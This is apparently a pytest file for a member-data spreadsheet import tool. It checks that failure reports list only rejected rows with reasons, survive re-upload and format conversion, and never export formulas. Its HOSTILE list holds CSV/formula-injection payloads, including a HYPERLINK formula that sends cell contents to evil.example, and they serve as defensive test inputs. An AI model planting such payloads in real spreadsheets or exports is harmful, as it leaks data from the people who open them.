"""The failure report: the template with only the failed rows and a last column 「失败原因」;
corrected, it is uploaded again as is. No exported cell is ever a formula."""

from __future__ import annotations

import io

import openpyxl
import pytest

from tests.unit.imports._support import TODAY, LibreOffice, filled_template, member
from zhtj.imports import MEMBER_TEMPLATE, check_import, failure_report_file_name, failure_report_xlsx, template_xlsx
from zhtj.imports.definitions import FAILURE_COLUMN

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"点击")', "+SUM(1,2)", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]


def _upload() -> bytes:
    rows = [
        member(1),
        member(2, 性别="女"),  # fails: gender
        member(3),
        member(4, 身份证号码=1.101051986020912e17, 备注=HOSTILE[0]),  # fails: number cell
        member(5, 发展团员编号="202232000005", 所在团支部=HOSTILE[1]),  # fails: year
    ]
    rows[2][11] = HOSTILE[2]  # a passing row with hostile text is not in the report
    return filled_template(rows)


def _all_cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_report_holds_only_failed_rows_with_reasons() -> None:
    checked = check_import(_upload(), "x.xlsx", today=TODAY)
    assert [result.row for result in checked.failed] == [3, 5, 6]
    report = failure_report_xlsx(checked.definition, checked.results)
    sheet = openpyxl.load_workbook(io.BytesIO(report))["团员信息"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == [column.header for column in MEMBER_TEMPLATE.columns] + [FAILURE_COLUMN]
    assert len(rows) == 4
    reasons = [row[-1] for row in rows[1:]]
    assert "第3行“性别”" in reasons[0]
    assert "请将身份证号码列设置为文本格式" in reasons[1]
    assert "第6行“发展团员编号”" in reasons[2]
    assert rows[2][1] == "1.10105E+17"  # what Excel showed, not invented digits
    assert failure_report_file_name(MEMBER_TEMPLATE, 3).endswith("导入失败3条.xlsx")


def test_no_formula_survives_in_any_export() -> None:
    checked = check_import(_upload(), "x.xlsx", today=TODAY)
    report = failure_report_xlsx(checked.definition, checked.results)
    for data in (report, template_xlsx(MEMBER_TEMPLATE)):
        cells = _all_cells(data)
        assert cells and all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in _all_cells(report) if isinstance(cell.value, str)]
    assert "'" + HOSTILE[0] in texts and "'" + HOSTILE[1] in texts
    assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)


@pytest.mark.parametrize("text", HOSTILE)
def test_every_trigger_is_neutralised(text: str) -> None:
    from zhtj.imports.validation import RowResult

    values = {name: text for name in MEMBER_TEMPLATE.column_names}
    result = RowResult(2, values)
    result.add("备注", "x", text)  # the reason itself (quoted from the upload) is neutralised too
    report = failure_report_xlsx(MEMBER_TEMPLATE, [result])
    cells = [cell for cell in _all_cells(report) if cell.row == 2 and cell.parent.title == "团员信息"]
    assert all(cell.data_type == "s" and not str(cell.value).startswith(text[0]) for cell in cells)


def _correct(report: bytes) -> bytes:
    """What the admin does: fix each failed row in the report itself, keep 失败原因."""
    workbook = openpyxl.load_workbook(io.BytesIO(report))
    sheet = workbook["团员信息"]
    fixes = {2: member(2), 3: member(4), 4: member(5)}
    for row_number, values in fixes.items():
        for column, value in enumerate(values, start=1):
            sheet.cell(row=row_number, column=column, value=value or None)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_corrected_report_uploads_again_as_is() -> None:
    checked = check_import(_upload(), "x.xlsx", today=TODAY)
    corrected = _correct(failure_report_xlsx(checked.definition, checked.results))
    again = check_import(corrected, failure_report_file_name(MEMBER_TEMPLATE, 3), today=TODAY)
    assert again.file.ignored_headers == (FAILURE_COLUMN,)
    assert [result.row for result in again.results] == [2, 3, 4]
    assert again.failed == []


def test_uncorrected_report_fails_the_same_way_again() -> None:
    checked = check_import(_upload(), "x.xlsx", today=TODAY)
    again = check_import(failure_report_xlsx(checked.definition, checked.results), "r.xlsx", today=TODAY)
    assert [[e.code for e in r.errors] for r in again.failed] == [[e.code for e in r.errors] for r in checked.failed]
    # the hostile text is the admin's text again, not the apostrophe-prefixed export
    assert again.results[1].values["备注"] == HOSTILE[0]


def test_report_converted_to_xls_by_libreoffice_uploads_again(libreoffice: LibreOffice) -> None:
    checked = check_import(_upload(), "x.xlsx", today=TODAY)
    corrected = _correct(failure_report_xlsx(checked.definition, checked.results))
    xls = libreoffice.convert(corrected, ".xlsx", "xls")
    again = check_import(xls, "r.xls", today=TODAY)
    assert again.file.format == "xls" and again.failed == [] and len(again.results) == 3
    resaved = libreoffice.convert(failure_report_xlsx(checked.definition, checked.results), ".xlsx", "xlsx")
    assert all(cell.data_type != "f" for cell in _all_cells(resaved))
